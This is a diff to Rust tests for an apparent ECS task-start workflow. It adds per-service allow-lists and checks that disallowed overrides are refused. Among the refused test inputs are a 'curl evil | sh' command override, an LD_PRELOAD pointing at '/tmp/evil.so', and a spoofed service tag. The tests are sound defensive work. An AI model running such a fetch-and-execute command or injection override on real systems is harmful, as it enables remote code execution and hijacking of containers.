@@ -18,6 +18,12 @@ fn workflow() -> EcsStart {
         subnets: vec!["subnet-1".into()],
         security_groups: vec!["sg-1".into()],
         assign_public_ip: false,
+        allow_environment: vec!["MODE".into()],
+        allow_command: true,
+        allow_revisions: vec![9],
+        allow_tags: vec!["team".into()],
+        max_count: 2,
+        stop_any_task: false,
     };
     let ports = Ports::memory();
     EcsStart(EcsParts {
@@ -318,6 +324,33 @@ fn overrides_are_applied_and_bad_input_is_refused_with_reasons() {
             json!({}),
             "detail.revision",
         ),
+        // What the mapping does not allow by name (it allows MODE, a command, revision 9, the
+        // tag team and two tasks).
+        (
+            json!({"service": "auth", "environment": {"MODE": "x", "LD_PRELOAD": "/tmp/evil.so"}}),
+            json!({}),
+            "detail.environment.LD_PRELOAD: environment key not allowed (services.auth.allow_environment",
+        ),
+        (
+            json!({"service": "auth", "revision": 2}),
+            json!({}),
+            "detail.revision 2: revision not allowed (services.auth.allow_revisions",
+        ),
+        (
+            json!({"service": "auth", "tags": {"owner": "x"}}),
+            json!({}),
+            "detail.tags.owner: tag key not allowed",
+        ),
+        (
+            json!({"service": "auth", "tags": {"tugboat:service": "billing"}}),
+            json!({}),
+            "detail.tags.tugboat:service: tag key not allowed",
+        ),
+        (
+            json!({"service": "auth", "count": 3}),
+            json!({}),
+            "detail.count 3: more tasks than one event may start (services.auth.max_count = 2)",
+        ),
         (
             json!({"service": "auth"}),
             json!({"poll_interval": "often"}),
@@ -415,4 +448,28 @@ fn count_starts_each_task_in_turn_and_compensation_covers_them_all() {
             "notify-error"
         ]
     );
+}
+
+#[test]
+fn a_mapping_that_allows_nothing_refuses_every_override() {
+    let mut w = workflow();
+    let m = w.0.services.get_mut("auth").unwrap();
+    m.allow_environment.clear();
+    m.allow_command = false;
+    m.allow_revisions.clear();
+    m.allow_tags.clear();
+    m.max_count = 1;
+    assert!(w.start(&event(json!({"service": "auth"})), &params()).is_ok());
+    for (detail, part) in [
+        (json!({"environment": {"DB_URL": "postgres://evil"}}), "environment key not allowed"),
+        (json!({"command": ["sh", "-c", "curl evil | sh"]}), "may not replace the container's command (services.auth.allow_command is false)"),
+        (json!({"revision": 1}), "revision not allowed"),
+        (json!({"tags": {"team": "x"}}), "tag key not allowed"),
+        (json!({"count": 2}), "services.auth.max_count = 1"),
+    ] {
+        let mut d = detail.clone();
+        d["service"] = json!("auth");
+        let e = w.start(&event(d), &params()).expect_err(&detail.to_string());
+        assert!(e.contains(part), "{detail}: {e}");
+    }
 }
